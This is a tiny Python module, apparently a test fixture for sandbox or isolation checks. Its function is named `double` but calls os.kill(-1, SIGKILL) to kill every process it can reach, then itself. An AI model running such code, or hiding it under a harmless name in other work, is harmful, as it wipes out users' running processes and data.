"""Kills every process that it may."""
import os
import signal


def double(x):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
